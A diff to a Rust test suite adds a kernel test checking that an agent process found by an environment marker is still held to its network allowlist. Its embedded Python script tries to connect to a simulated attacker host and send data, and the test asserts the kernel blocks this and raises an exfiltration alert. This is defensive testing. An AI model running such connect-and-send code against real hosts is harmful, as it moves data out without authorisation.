@@ -638,6 +638,52 @@ fn a_process_that_moved_itself_out_of_the_agent_cgroup_is_still_held_to_its_allo
     );
 }
 
+/// An agent the kernel discovers (here by the environment marker) rather than one started
+/// with `exec` has no cgroup of its own; the egress programs know it by its processes, so its
+/// allowlist holds all the same.
+#[test]
+fn a_discovered_agent_is_held_to_its_allowlist() {
+    if !can_run_kernel_tests("a_discovered_agent_is_held_to_its_allowlist") {
+        return;
+    }
+    let scene = Scene::new("discovered-egress", "");
+    let attacker = NetNs::new();
+    let record = scene.root.join("received");
+    let _listener = attacker.listen(9000, false, &record);
+    let mut sensor = scene.sensor();
+    let outcome = scene.root.join("outcome");
+    // The daemon adopts the agent at its first event; the pause stands for a runtime's start.
+    let script = format!(
+        "import socket, time\n\
+         time.sleep(0.5)\n\
+         try:\n\
+         \x20   socket.create_connection(('{ip}', 9000), timeout=3).sendall(b'found'); said = 'sent'\n\
+         except OSError as e:\n\
+         \x20   said = 'errno %d' % e.errno\n\
+         open('{outcome}', 'w').write(said)\n",
+        ip = attacker.remote_ip,
+        outcome = s(&outcome),
+    );
+    let status = Command::new("/usr/bin/python3")
+        .args(["-c", &script])
+        .env("AGENT_SENSOR_AGENT", "wanderer")
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let agent = sensor.listed_agent("wanderer");
+    sensor.stop();
+    let alerts = sensor.alerts();
+    assert_eq!(agent.unwrap()["origin"], "discovered");
+    assert_eq!(std::fs::read_to_string(&outcome).unwrap(), "errno 1");
+    assert!(std::fs::read(&record).unwrap().is_empty());
+    let egress = alerts_of(&alerts, "exfil.unallowed_egress");
+    assert!(
+        egress.iter().any(|a| a["agent"] == "wanderer"
+            && a["action"]["outcome"] == "denied in the kernel (EPERM): nothing was sent"),
+        "{alerts:#?}"
+    );
+}
+
 #[test]
 fn kill_9_of_the_daemon_loses_neither_tracking_nor_enforcement() {
     if !can_run_kernel_tests("kill_9_of_the_daemon_loses_neither_tracking_nor_enforcement") {
